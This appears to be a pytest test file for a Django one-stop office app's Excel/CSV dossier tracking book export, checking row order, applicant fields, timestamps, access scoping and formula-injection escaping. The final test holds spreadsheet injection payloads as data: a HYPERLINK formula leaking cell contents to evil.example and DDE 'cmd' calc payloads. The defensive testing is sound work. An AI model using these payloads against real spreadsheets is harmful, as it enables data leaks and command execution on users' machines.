"""The dossier tracking book: one line per dossier received, in order, with the form's facts."""

from __future__ import annotations

import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from motcua.dossiers.services import ApplicantData, dossier_return_result
from motcua.org.models import Role
from tests.factories import staff
from tests.worlds import vn

pytestmark = pytest.mark.django_db


def wall(*parts: int):
    """Spreadsheets hold the local wall time, without a zone."""
    return vn(*parts).replace(tzinfo=None)


def book_lines(content: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [row for row in sheet.iter_rows(min_row=5, values_only=True) if row[0] is not None]


def test_the_book_lists_the_periods_dossiers_with_hand_over_and_return(client, world):
    returned = world.receive(
        vn(2019, 3, 4, 8),
        applicant=ApplicantData(name="Nguyễn Văn An", phone="0912345678", address="Hương Canh"),
    )
    world.sign(returned, at=vn(2019, 3, 5, 9))
    dossier_return_result(
        actor=world.clerk, dossier_id=returned.pk, collected_by="Nguyễn Văn An",
        at=vn(2019, 3, 6, 10),
    )  # fmt: skip
    waiting = world.receive(vn(2019, 3, 20, 14, 30))
    world.receive(vn(2019, 4, 1, 8))  # outside the period
    client.force_login(world.clerk)
    response = client.get(
        reverse("stats-statistics"),
        {"period": "2019-03", "unit": world.district.desk_a.code, "format": "book"},
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    lines = book_lines(response.content)
    assert [line[1] for line in lines] == [returned.code, waiting.code]  # order of reception
    first = lines[0]
    assert first[0] == 1
    assert first[4] == "Nguyễn Văn An"
    assert first[5] == "Hương Canh, 0912345678"
    assert first[6] == world.district.justice.name  # the agency in charge: the specialist's step
    assert first[7] == wall(2019, 3, 4, 8, 0)  # local wall time
    assert first[8] == wall(2019, 3, 7, 17, 0)
    assert first[9] == wall(2019, 3, 5, 9, 0)  # handed over to the department
    assert first[10] == wall(2019, 3, 6, 10, 0)
    assert first[11] == "Nguyễn Văn An"
    assert first[12] == "Trước hạn"
    assert lines[1][10] is None
    assert lines[1][12] == "Đã tiếp nhận"


def test_the_book_covers_only_what_the_user_may_read(client, world, tmp_path):
    world.receive(vn(2019, 3, 4, 8))
    outsider = staff(Role.CLERK, world.district.desk_b)
    client.force_login(outsider)
    response = client.get(reverse("stats-statistics"), {"period": "2019-03", "format": "book"})
    assert book_lines(response.content) == []
    target = tmp_path / "book.xlsx"
    call_command("report", "--period", "2019-03", "--format", "book", "-o", str(target),
                 stdout=io.StringIO())  # fmt: skip
    assert len(book_lines(target.read_bytes())) == 1  # scripts see every agency


def test_text_that_looks_like_a_formula_stays_text_in_every_export(client, world):
    typed = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        "address": "+1+cmd|' /C calc'!A0",
        "phone": "-2+3",
        "collected_by": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    dossier = world.receive(
        vn(2019, 3, 4, 8),
        applicant=ApplicantData(
            name=typed["name"] + "\x07", address=typed["address"], phone=typed["phone"]
        ),
    )
    world.sign(dossier, at=vn(2019, 3, 5, 9))
    dossier_return_result(
        actor=world.clerk, dossier_id=dossier.pk, collected_by=typed["collected_by"],
        at=vn(2019, 3, 6, 10),
    )  # fmt: skip
    world.district.desk_a.name = "=1+1 Một cửa"
    world.district.desk_a.save()
    client.force_login(world.clerk)
    query = {"period": "2019-03", "unit": world.district.desk_a.code}
    book = client.get(reverse("stats-statistics"), {**query, "format": "book"})
    sheet = load_workbook(io.BytesIO(book.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[1].value == dossier.code)
    assert [row[4].value, row[5].value, row[11].value] == [
        typed["name"],  # the bell character XLSX cannot hold is dropped, not a failed export
        f"{typed['address']}, {typed['phone']}",
        typed["collected_by"],
    ]
    assert {row[i].data_type for i in (4, 5, 11)} == {"s"}  # text, not "f" (formula)
    assert all(row[i].quotePrefix for i in (4, 5, 11))
    assert sheet["A2"].data_type == "s"  # the agency's name in the heading

    table = client.get(reverse("stats-statistics"), {**query, "format": "xlsx"})
    unit_cells = [
        c for r in load_workbook(io.BytesIO(table.content)).worksheets[0].iter_rows() for c in r
    ]
    named = [c for c in unit_cells if isinstance(c.value, str) and "Một cửa" in c.value]
    assert named
    assert all(c.data_type == "s" for c in named)
    csv_text = client.get(reverse("stats-statistics"), {**query, "format": "csv"})
    assert "'=1+1 Một cửa" in csv_text.content.decode("utf-8-sig")
